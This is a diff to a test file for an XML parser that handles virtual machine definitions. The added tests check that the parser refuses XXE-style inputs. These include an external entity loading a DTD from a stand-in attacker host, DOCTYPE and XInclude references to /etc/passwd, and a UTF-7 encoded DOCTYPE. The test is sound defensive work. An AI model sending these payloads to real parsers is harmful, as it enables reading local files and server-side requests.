@@ -24,12 +24,21 @@ describe('parsing', () => {
     ['an unknown entity', '<x>&y;</x>'],
     ['XInclude', '<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="/etc/passwd"/></x>'],
     ['a NUL byte', '<x>\0</x>'],
+    ['an external parameter entity', '<!DOCTYPE x [<!ENTITY % y SYSTEM "http://evil.example/x.dtd"> %y;]><x/>'],
+    ['a document type behind a comment', '<!-- x --><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'],
+    ['XInclude of 2003', '<x xmlns:i="http://www.w3.org/2003/XInclude"><i:include href="/etc/passwd"/></x>'],
+    ['a document type in UTF-7', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4APA-x/+AD4-'],
+    ['another encoding, in any spelling', "<?XML version='1.0' ENCODING = 'ebcdic-cp-us'?><x/>"],
     ['two roots', '<x/><y/>'],
     ['nothing', ''],
     ['an unclosed element', '<x><y></x>'],
     ['an attribute without quotes', '<x a=b/>'],
     ['text alone', 'hello'],
   ])('refuses %s', (_, text) => expect(refused(text)).toMatchObject({ code: 'invalid' }))
+
+  it('takes UTF-8 and ASCII by their names', () => {
+    for (const encoding of ['UTF-8', 'utf-8', 'utf8', 'US-ASCII']) expect(parseXml(`<?xml version="1.0" encoding="${encoding}"?><x/>`).documentElement?.localName).toBe('x')
+  })
 
   it('says where', () => {
     expect(problemsIn('<domain>\n  <a>\n</domain>', { uuid, name: 'x' })).toMatchObject([{ severity: 'error', line: 2 }])
@@ -173,6 +182,10 @@ describe('an edited definition', () => {
     ['another root', '<network/>', 'error', '<domain>'],
     ['a misspelt element', good.replaceAll('vcpu', 'vpcu'), 'warning', '<vpcu>'],
     ['a misspelt device', good.replace('<devices>', '<devices><dsik/>'), 'warning', '<dsik>'],
+    ['its identity in another namespace', good.replace(`<uuid>${uuid}`, `<x:uuid xmlns:x='urn:x'>${uuid}</x:uuid><uuid>${uuid.replace('1', '2')}`), 'error', 'identity'],
+    ['its identity in a default namespace', good.replace(`<uuid>${uuid}`, `<uuid xmlns='urn:x'>${uuid}</uuid><uuid>${uuid.replace('1', '2')}`), 'error', 'identity'],
+    ['its name in another namespace', good.replace('<name>', "<x:name xmlns:x='urn:x'>a</x:name><name>b"), 'error', 'Use Rename'],
+    ['a root in another namespace', good.replace('<domain', "<domain xmlns='urn:x'"), 'error', '<domain>'],
     ['options for QEMU', good.replace('</domain>', "<commandline xmlns='http://libvirt.org/schemas/domain/qemu/1.0'/></domain>"), 'warning', 'straight to QEMU'],
   ])('with %s says so', (_, text, severity, words) => {
     const problems = problemsIn(text, { uuid, name: 'a' })
